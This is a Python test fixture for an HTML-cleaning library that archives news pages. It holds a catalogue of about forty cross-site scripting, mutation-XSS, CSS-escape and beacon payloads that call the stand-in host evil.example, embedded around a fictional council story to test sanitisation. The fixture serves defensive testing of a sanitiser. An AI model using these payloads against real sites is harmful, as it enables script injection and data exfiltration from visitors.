"""Invented pages that try to run, load, send or lead away when they are shown as archived; each has one quotation."""

# ruff: noqa: E501 - an attack, one line
from __future__ import annotations

from contextlib import suppress
from functools import cache

from sayso import clean
from sayso.errors import InputError
from sayso.identity import statement_id
from sayso.read import make_document
from sayso.records import Manner, Span, Speaker, Statement

OUT = "http://evil.example/x"
HIT = f"new Image().src='{OUT}';window.hit=1;parent.hit=1"
ATTACKS = {
    "script": f"<script>{HIT}</script><script src='{OUT}'></script><script type=module src='{OUT}'></script>",
    "script in svg": f"<svg><script>{HIT}</script><script xlink:href='{OUT}'/></svg>",
    "handlers": f'<img src=x onerror="{HIT}"><div onclick="{HIT}" onmouseover="{HIT}" onfocus="{HIT}" tabindex=1 autofocus>q</div>',
    "svg handlers": f'<svg onload="{HIT}"><animate onbegin="{HIT}" attributeName=x dur=1s><set onbegin="{HIT}"/></svg>',
    "svg use": f'<svg><use href="{OUT}#a"/><image href="{OUT}" xlink:href="{OUT}"/><a xlink:href="javascript:{HIT}"><text>k</text></a></svg>',
    "foreign object": f'<svg><foreignObject><iframe src="{OUT}"></iframe><img src={OUT}></foreignObject></svg>',
    "details": f'<details ontoggle="{HIT}" open><summary>s</summary>d</details><marquee onstart="{HIT}">m</marquee>',
    "pictures": f'<img src="{OUT}" srcset="{OUT} 2x"><picture><source srcset="{OUT}"><img lowsrc={OUT} src={OUT}></picture>',
    "picture that is a page": f'<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{HIT}\'/>">',
    "video": f'<video src="{OUT}" poster="{OUT}" autoplay><source src="{OUT}"><track src="{OUT}"></video><audio src={OUT} autoplay></audio>',
    "frames": f'<iframe src="{OUT}"></iframe><iframe srcdoc="<script>{HIT}</script>"></iframe><frameset><frame src={OUT}></frameset>',
    "objects": f'<object data="{OUT}"><param name=movie value={OUT}></object><embed src="{OUT}"></embed><applet code=x codebase={OUT}></applet>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={OUT}"><meta http-equiv=refresh content="0;url=javascript:{HIT}">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    "base": f'<base href="{OUT}" target=_top><img src=a.png><a href=b>k</a>',
    "links": f'<link rel=stylesheet href="{OUT}"><link rel=preload as=image href="{OUT}"><link rel=prefetch href="{OUT}"><link rel=prerender href="{OUT}"><link rel=icon href="{OUT}">',
    "resolved ahead": '<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="//evil.example"><link rel=manifest href="//evil.example/m">',
    "rules of speculation": f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{OUT}"]}}]}}</script>',
    "style": f"<style>@import '{OUT}';@import url({OUT});body{{background:url({OUT})}}@font-face{{font-family:e;src:url({OUT})}}p{{font-family:e}}</style>",
    "style in escapes": f"<style>body{{background:\\75 rl({OUT});list-style:u\\72l('{OUT}')}}@\\69mport '{OUT}';p{{background:-webkit-image-set('{OUT}' 1x)}}</style>",
    "style cut by comments": f"<style>@import/**/'{OUT}';p{{background:url/**/({OUT})}}/*</style>",
    "style that ends itself": f'<style>p{{}}</st\\yle><img src={OUT}></style><style><!--</style><img src={OUT} onerror="{HIT}">--></style>',
    "style for a medium": f"<style media='all{{}}body{{background:url({OUT})}}'>p{{}}</style>",
    "style attributes": f'<p style="background:url({OUT});behavior:url({OUT})">a</p><p style="list-style-image:u\\72l({OUT});content:url({OUT})">b</p>',
    "backgrounds": f'<table background="{OUT}"><tr><td background={OUT}>t</table>',
    "forms": f'<form action="{OUT}" id=f><input type=image src="{OUT}"><input autofocus onfocus="{HIT}"><button formaction="{OUT}">b</button></form><button form=f>c</button>',
    "isindex": f'<isindex action="{OUT}" type=image src={OUT}>',
    "addresses that run": f'<a href="javascript:{HIT}">j</a><a href=" jav&#x09;ascript:{HIT}">k</a><a href="data:text/html,<script>{HIT}</script>" target=_top>l</a>',
    "pings": f'<a href="{OUT}" ping="{OUT}" download>p</a><area href={OUT}><map name=m><area href={OUT}></map>',
    "math": f'<math href="javascript:{HIT}"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={OUT} onerror={HIT}&gt;"></math>',
    "mutation through noscript": f'<noscript><p title="</noscript><img src={OUT} onerror={HIT}>"></noscript>',
    "mutation through svg": f'<svg></p><style><a id="</style><img src={OUT} onerror={HIT}>"></svg>',
    "mutation through a template": f"<template><script>{HIT}</script><img src={OUT}></template>",
    "mutation through a title": f'<title><a title="</title><img src={OUT} onerror={HIT}>"></title>',
    "mutation through a text area": f'<textarea><a title="</textarea><img src={OUT} onerror={HIT}>"></textarea>',
    "mutation through raw text": f'<xmp><a title="</xmp><img src={OUT} onerror={HIT}>"></xmp><noembed><b title="</noembed><img src={OUT}>"></noembed>',
    "mutation through a comment": f"<!--><img src={OUT} onerror={HIT}>--><!-- --!><img src={OUT} onerror={HIT}><![CDATA[><img src={OUT}>]]>",
    "elements of its own": f'<x-a onclick="{HIT}" style="background:url({OUT})">own</x-a><portal src={OUT}></portal><fencedframe></fencedframe>',
    "marks that are none": '<mark class="sayso sayso-content" title="statement 1: content" data-sayso-number=1 id=sayso-0>Ostrel lied</mark>',
    "bars": "<style>.b{position:fixed;inset:0;background:#000}</style><div class=b>Agree</div><style>body{display:none!important}</style>",
    "plain text": f"<p>a</p><plaintext><img src={OUT} onerror={HIT}>",
}  # fmt: skip
QUOTATION = "the  <b>old <i>quay</i></b>\n would\tnot&nbsp;be <a href='http://evil.example/l'>closed</a> &amp; sold"
WORDS = "the old quay would not\xa0be closed & sold"
STORY = f"""<article><h1>Council keeps the quay</h1><p>Ada Voss said that {QUOTATION}.</p>
<p>The harbour company of Velden had asked for a decision before the winter, since its winches are old.</p></article>"""


def page_of(attack: str, *, before: bool) -> str:
    """Return a page with an attack, before its story or after it."""
    return f"<html><head><title>Quay</title></head><body>{attack if before else ''}{STORY}{'' if before else attack}</body></html>"


def archived_document(name: str, html: str, **fields: str):
    """Return (document, article, statements) of a page, cleaned; its one statement is the quotation, if it is there."""
    document = make_document(
        content=html.encode(),
        name=name,
        origin=fields.get("origin", f"{name}.html"),
        fetched="2031-06-01T00:00:00Z",
        media_type="text/html",
    )
    article = clean.article(document)
    at = article.text.find("Ada Voss said that " + WORDS)
    if at < 0:
        return document, article, ()
    spans = (
        (Span(at, at + 8),),
        (Span(at + 9, at + 13),),
        (Span(at + 19, at + 19 + len(WORDS)),),
    )
    speaker = Speaker("ada1", "Ada Voss", "person")
    identity = statement_id(article.id, *spans)
    return document, article, (Statement(identity, article.id, *spans, Manner.INDIRECT, 0.9, speaker=speaker),)


@cache
def hostile_documents():
    """Return (document, article, statements) of every attack, before a story, unless it swallows it, and after it."""
    found = []
    for name, attack in ATTACKS.items():
        found.append(archived_document(f"{name}, after", page_of(attack, before=False)))
        with suppress(InputError):
            found.append(archived_document(f"{name}, before", page_of(attack, before=True)))
    return found
